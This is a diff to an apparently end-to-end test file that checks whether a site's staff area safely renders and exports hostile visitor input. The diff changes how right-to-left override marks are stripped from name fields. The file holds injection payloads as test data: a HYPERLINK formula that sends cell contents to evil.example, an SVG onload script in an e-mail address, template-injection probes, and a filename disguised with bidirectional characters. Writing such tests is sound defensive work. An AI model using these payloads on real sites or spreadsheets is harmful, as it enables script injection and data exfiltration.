@@ -12,7 +12,7 @@ const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Click")';
 const DISGUISED = '\u202Egpj.exe\u202C",\'; {{7*7}} ${7*7} @SUM(1)';
 const HOSTILE = [MARKUP, FORMULA, DISGUISED];
 
-/** A sentence of plain text leaves out the marks that would turn what stands after a visitor's words. */
+/** Names, and sentences of plain text, leave out the marks that would turn what stands after a visitor's words. */
 const withoutTurns = (text: string): string => text.replace(/[\u202A-\u202E]/g, '');
 
 interface Form {
@@ -67,6 +67,10 @@ const FORMS: Record<string, Form> = {
 /** An address that the rule for e-mail takes, and that no page may take for markup. */
 const addressOf = (mark: string) => `"><svg/onload=globalThis.owned=1>${mark}@example.com`;
 
+/** The texts as staff are to see them. */
+const shownTexts = (texts: Record<string, string>): string[] =>
+  Object.entries(texts).map(([field, text]) => (/name/i.test(field) ? withoutTurns(text) : text));
+
 const wasOwned = (page: Page) => page.evaluate(() => 'owned' in globalThis);
 
 async function exported(staff: StaffArea): Promise<string> {
@@ -92,7 +96,7 @@ for (const [at, [place, { tab, send, texts, rest = {} }]] of Object.entries(FORM
 
     for (const [index, hostile] of sent.entries()) {
       const email = addressOf(marks[index] ?? '');
-      const typed = Object.values(texts(hostile));
+      const typed = shownTexts(texts(hostile));
       await page.getByRole('searchbox').fill(email);
       const row = staff.row(email);
       for (const text of typed) await expect(row).toContainText(text);
@@ -114,7 +118,7 @@ for (const [at, [place, { tab, send, texts, rest = {} }]] of Object.entries(FORM
 
       await page.keyboard.press('d');
       const question = page.getByRole('dialog', { name: 'Are you sure?' });
-      await expect(question).toContainText(rest['name'] ?? withoutTurns(typed[0] ?? '').slice(0, 38));
+      await expect(question).toContainText(rest['name'] ?? (typed[0] ?? '').slice(0, 38));
       await staff.answer('Yes, delete');
       await page.keyboard.press('Escape');
       await expect(row).toBeHidden();
